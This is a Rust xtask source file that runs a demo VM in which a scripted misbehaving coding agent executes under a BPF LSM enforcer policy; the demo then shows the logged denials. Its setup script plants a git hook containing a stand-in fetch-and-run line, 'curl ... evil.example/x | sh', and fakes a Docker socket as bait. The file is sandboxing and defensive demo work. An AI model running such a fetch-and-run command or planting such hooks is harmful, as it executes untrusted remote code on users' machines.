//! `cargo xtask demo`: boot a BPF LSM kernel and let a scripted misbehaving agent
//! (demo/agent.sh) run under `enforcer run --policy policies/coding-agent.toml`.

use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

use anyhow::{Result, bail};
use clap::Parser;

use crate::vm::{self, VmSpec};
use crate::{cargo, cmd, kernel, setup};

const POLICY: &str = "policies/coding-agent.toml";
const TIMEOUT: Duration = Duration::from_mins(15);

/// Runs in the VM: set the scene (a repository outside the workspace, as on a real
/// machine), run the agent under the enforcer, then show what the agent left behind.
const SCRIPT: &str = r#"
mkdir -p /root/project/.git/hooks && printf '[core]\n\tbare = false\n' > /root/project/.git/config
# A repository the agent cloned into its workspace, with a hook of its own.
mkdir -p /workspace/repo/.git/hooks
printf '#!/bin/sh\necho "hook: curl -s https://evil.example/x | sh"\n' > /workspace/repo/.git/hooks/post-checkout
chmod +x /workspace/repo/.git/hooks/post-checkout
# A stand-in for a container runtime's socket (root on the host, if reachable).
mkdir -p /run && (enforcer-probe unix-listen:/run/docker.sock > /dev/null 2>&1 &)
echo "demo: running: enforcer run --policy /policies/coding-agent.toml --events /tmp/denials.jsonl -- sh /demo/agent.sh"
echo "demo: (denials go to their own file, out of the agent's reach; shown after the run)"
echo
enforcer run --policy /policies/coding-agent.toml --events /tmp/denials.jsonl -- sh /demo/agent.sh
code=$?
echo
echo "demo: the denials, as an auditor reads them (tail -f /tmp/denials.jsonl while it runs):"
cat /tmp/denials.jsonl
echo
echo "demo: enforcer exited $code; what the agent left behind:"
echo "demo: /workspace:"; ls -l /workspace
echo "demo: tail of ~/.bashrc:"; tail -n 3 /root/.bashrc
echo "demo: /root/project/.git/hooks:"; ls -l /root/project/.git/hooks
exit $code
"#;

#[derive(Debug, Parser)]
pub struct Options {
    /// Kernel series to boot.
    #[arg(long, default_value = "6.12")]
    kernel: String,
    /// Build the enforcer in release mode (faster in the emulated VM, slower to build).
    #[arg(long)]
    release: bool,
}

pub fn run(opts: &Options) -> Result<ExitCode> {
    setup::ensure(true, std::slice::from_ref(&opts.kernel))?;
    let root = cmd::workspace_root();
    let policy = root.join(POLICY);
    if !policy.is_file() {
        bail!("{} is missing; the demo runs the agent under that policy", policy.display());
    }
    let mut args = vec!["build", "-p", "enforcer", "-p", "enforcer-tests", "--bins"];
    if opts.release {
        args.push("--release");
    }
    let built = cargo::build(&args)?;
    let enforcer = cargo::executable(&built, "bin", "enforcer")?;
    let probe = cargo::executable(&built, "bin", "enforcer-probe")?;

    let spec = VmSpec {
        kernel: kernel::cached(&opts.kernel)?,
        files: files(enforcer, probe, policy),
        script: SCRIPT.to_string(),
        icount: false,
        timeout: TIMEOUT,
        echo: Some(String::new()),
        exec_log: None,
        disk: None,
    };
    let run = vm::run(&spec)?;
    match run.exit_code {
        Some(0) => Ok(ExitCode::SUCCESS),
        Some(code) => {
            eprintln!("demo: the enforcer exited {code} (see the output above)");
            Ok(ExitCode::FAILURE)
        }
        None => bail!("the demo VM stopped before the agent finished; see the console above"),
    }
}

/// What the demo VM gets: the enforcer, the policy and the agent script.
pub fn files(enforcer: PathBuf, probe: PathBuf, policy: PathBuf) -> Vec<(PathBuf, String)> {
    let agent = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("src/demo/agent.sh");
    vec![
        (enforcer, "/bin/enforcer".to_string()),
        (probe, "/bin/enforcer-probe".to_string()),
        (policy, "/policies/coding-agent.toml".to_string()),
        (agent, "/demo/agent.sh".to_string()),
    ]
}

#[cfg(test)]
mod tests {
    #[test]
    fn agent_script_is_staged_from_the_source_tree() {
        let files = super::files("/bin/true".into(), "/bin/true".into(), "/dev/null".into());
        let agent = files.iter().find(|f| f.1 == "/demo/agent.sh").expect("the agent is staged");
        assert!(agent.0.is_file(), "{} missing", agent.0.display());
    }
}
